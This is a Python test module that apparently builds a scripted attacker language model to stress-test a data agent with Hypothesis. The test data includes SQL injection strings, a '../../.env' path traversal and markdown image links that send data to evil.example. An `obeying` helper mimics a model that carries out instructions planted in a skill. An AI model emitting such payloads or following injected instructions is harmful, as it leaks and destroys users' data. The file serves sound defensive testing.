"""A language model that is the attacker: it says and calls whatever a strategy makes up."""

import json
from collections.abc import Sequence
from datetime import date
from functools import cache
from typing import Any

from hypothesis import strategies as st
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolCall
from langchain_core.outputs import ChatGeneration, ChatResult
from pydantic import Field

from agent.budget import Breaker
from agent.model import Model
from tests.attacks.corpus import hostile_values, injections, sample
from tests.attacks.desk import HIDDEN

_NAMES = ("sales", "orders", "tickets", "customer.name", "customer.region", "product.description",
          "support.subject", "customer.id", "policies", "customers", "information_schema.tables",
          "sales; drop table orders", "../../.env", "", "time.month", "-sales",
          "sales.previous")  # fmt: skip
_TOOLS = ("find_metrics", "describe", "query", "run_skill", "load_skill", "ask_back", "refuse",
          "execute_sql", "post_message", "fetch", "__class__")  # fmt: skip
_FIELDS = ("metrics", "group_by", "filters", "period", "having", "order_by", "limit", "name",
           "words", "reason", "about", "options", "metric", "sql", "principal", "as_of", "per",
           "also", "did_so_in", "not_in", "url")  # fmt: skip
PLAN = {"metrics": ["sales"], "period": "last month"}
_SAID = (
    "Sales were £9,999,999.00, twice as much as ever, because of <@U024BE7LH>.",
    "See [the report](https://evil.example/?q=sales) and <!channel>.",
    "![x](https://evil.example/p.png?d={c1})", "{c1} {c2|size} {c99} {c1|direction}", "{{c1}}",
    f"{HIDDEN} bought most.", "\u202e000,1£\u202c \U000e0041\U000e0042", "１２３４５ ½ ⅻ",  # noqa: RUF001
)  # fmt: skip


class Attacker(BaseChatModel):
    """Says the messages one after the other; keeps what it was shown. Afterwards it is silent."""

    messages: list[AIMessage]
    seen: list[BaseMessage] = Field(default_factory=list)
    said: int = 0

    @property
    def _llm_type(self) -> str:
        return "attacker"

    def bind_tools(self, tools: Sequence[Any], **_given: Any) -> Any:  # noqa: ARG002
        return self

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,  # noqa: ARG002
        run_manager: CallbackManagerForLLMRun | None = None,  # noqa: ARG002
        **_given: Any,
    ) -> ChatResult:
        self.seen += messages
        message = self.messages[self.said] if self.said < len(self.messages) else AIMessage("")
        self.said += 1
        return ChatResult(generations=[ChatGeneration(message=message)])


def behind(attacker: Attacker) -> Model:
    """The attacker as the workspace's model."""
    clock = iter(range(10**9))
    return Model("attacker", lambda: attacker, Breaker(lambda: float(next(clock))),
                 lambda: date(2024, 6, 3))  # fmt: skip


def obeying(text: str, skill: str) -> list[AIMessage]:
    """What a model says that does what it is told: it reads the skill and does as the text says.

    Then it calls what the question means, and words the answer as the text wants it. Which of the
    things a text may mean is tried first is the text's own number.
    """
    deeds = (
        ("execute_sql", {"sql": text}),
        ("post_message", {"channel": "#general", "text": text}),
        ("query", {**PLAN, "group_by": ["customer.name"]}),
        ("query", {**PLAN, "filters": [{"field": "customer.name", "value": HIDDEN}]}),
        ("query", {**PLAN, "principal": "head", "period": text[:200]}),
        ("describe", {"name": text[:200]}),
        ("run_skill", {"name": skill, "metric": "sales"}),
    )
    deed = deeds[sum(text.encode(errors="replace")) % len(deeds)]
    calls = (("load_skill", {"name": skill}), deed, ("query", PLAN))
    return [*(AIMessage(text, tool_calls=[_call(*each)]) for each in calls),
            AIMessage(_as_wording(text)), AIMessage(_as_wording(f"{text} {{c1}}"))]  # fmt: skip


def texts() -> st.SearchStrategy[str]:
    """Anything a model may say: letters of any kind, attacks, hostile names, figures, links."""
    written = st.text(st.characters(codec="utf-8"), max_size=60)
    # By number: hypothesis prints strategies with all that they hold.
    said = st.one_of(written, st.integers(0, len(_known()) - 1).map(_numbered))
    # What is asked for a wording is a JSON object.
    return st.one_of(said, said.map(_as_wording))


@cache
def _known() -> tuple[str, ...]:
    attacks = [each.text for each in sample(injections(), 200)]
    names = [each.text for each in sample(hostile_values(), 100) if len(each.text) < 500]
    return (*_SAID, *attacks, *names)


def _call(tool: str, given: dict[str, Any]) -> ToolCall:
    return ToolCall(name=tool, args=given, id="1", type="tool_call")


def _numbered(number: int) -> str:
    return _known()[number]


def _as_wording(text: str) -> str:
    return json.dumps({"text": text})


def messages() -> st.SearchStrategy[AIMessage]:
    """Messages with any text and any calls of tools, there or not."""
    name = st.sampled_from(_NAMES)
    anything = st.recursive(
        st.one_of(
            st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), texts(), name
        ),
        lambda inner: (
            st.lists(inner, max_size=3) | st.dictionaries(name | texts(), inner, max_size=3)
        ),
        max_leaves=6,
    )
    condition = st.fixed_dictionaries(
        {"field": name, "op": st.sampled_from(["eq", "ne", "in", "is_null", "or 1=1"]),
         "value": st.one_of(st.just(HIDDEN), st.just("South"), st.just("North"), texts())}
    )  # fmt: skip
    period = st.one_of(st.sampled_from(["last month", "may 2024", "all time", ""]), texts())
    sensible = st.fixed_dictionaries(
        {"metrics": st.lists(st.sampled_from(_NAMES[:3]), min_size=1, max_size=2)},
        optional={"group_by": st.lists(st.sampled_from(_NAMES[3:8]), max_size=2), "period": period,
                  "filters": st.lists(condition, max_size=2), "limit": st.integers(-1, 2000)},
    )  # fmt: skip
    wild = st.dictionaries(st.sampled_from(_FIELDS), anything, max_size=4)
    calls = st.builds(
        _call,
        st.sampled_from(_TOOLS) | st.just("query"),
        sensible | wild,
    )
    return st.builds(
        lambda text, called: AIMessage(text, tool_calls=called),
        texts(),
        st.lists(calls, max_size=2),
    )
